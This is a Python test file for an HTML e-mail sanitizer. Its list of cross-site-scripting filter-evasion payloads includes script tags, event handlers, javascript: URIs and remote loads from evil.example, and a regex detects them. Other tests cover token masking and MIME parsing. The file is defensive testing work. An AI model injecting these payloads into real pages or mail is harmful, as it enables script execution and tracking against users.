from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.desk.mail_html import mail_page
from ingest.mail import mail_html, parse_mail

# Of the kinds that the OWASP cheat sheet on filter evasion lists, each written for this test.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=javascript:alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><input name=p><button formaction='javascript:alert(1)'>go</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';body{background:url(//evil.example/p)}</style>",
    "<div style='background:url(//evil.example/p)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<table background='//evil.example/p'><tr><td>x</td></tr></table>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<img srcset='//evil.example/p 1x' src='//evil.example/p'>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<x onclick=alert(1) style=x:y>y",
    "</title><script>alert(1)</script>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
]
DANGER = re.compile(
    r"<(?:script|iframe|object|embed|form|input|svg|math|video|link|base href|template|details)|\son\w+=|javascript:|vbscript:|src=\"(?!/mails/)"
    r"|style=|srcset|url\(|<meta http|data:",
    re.IGNORECASE,
)


def body_of(page: str) -> str:
    return page.split("<body>", 1)[1]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_can_act(attack: str) -> None:
    shown = body_of(mail_page(f"<p>before</p>{attack}<p>after</p>", {}, title="x"))
    assert not DANGER.search(shown), shown
    assert "before" in shown


@given(st.text(alphabet="<>/\"'= \0abcsrcipton:&#;()", max_size=200))
def test_no_text_makes_an_element_that_acts(text: str) -> None:
    assert not re.search(r"<script|<[^>]*\son\w+=", body_of(mail_page(text, {}, title=text)), re.IGNORECASE)


def test_tables_links_and_own_pictures_stay() -> None:
    html = (
        "<table><tr><td colspan=2>GPU</td></tr></table><a href='https://docs.example.org/x'>docs</a>"
        "<img src='cid:plot@1' alt='plot'><img src='cid:other' alt='other'>"
    )
    shown = body_of(mail_page(html, {"plot@1": "/mails/1/attachments/0/picture"}, title="x"))
    assert '<td colspan="2">GPU</td>' in shown
    assert 'href="https://docs.example.org/x" rel="noopener noreferrer nofollow"' in shown
    assert '<img src="/mails/1/attachments/0/picture" alt="plot">' in shown
    assert '<img alt="other">' in shown


def test_secrets_are_masked() -> None:
    shown = mail_page("<p>export HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyzABCDEFGH</p>", {}, title="x")
    assert "hf_abc" not in shown


def test_the_html_of_a_mail_is_found_whatever_is_around_it() -> None:
    raw = (
        b"From: a@x.org\nContent-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nplain\n"
        b"--b\nContent-Type: text/html; charset=iso-8859-1\nContent-Transfer-Encoding: quoted-printable\n\n"
        b"<p>gr=FC=DFe</p>\n--b--\n"
    )
    assert parse_mail(raw).has_html
    assert mail_html(raw).strip() == "<p>grüße</p>"
    plain = b"From: a@x.org\n\nhello <b>there</b>\n"
    assert not parse_mail(plain).has_html
    assert mail_html(plain) == ""


@given(st.binary(max_size=400))
def test_any_bytes_have_some_html_or_none(raw: bytes) -> None:
    assert bool(mail_html(raw)) <= parse_mail(raw).has_html
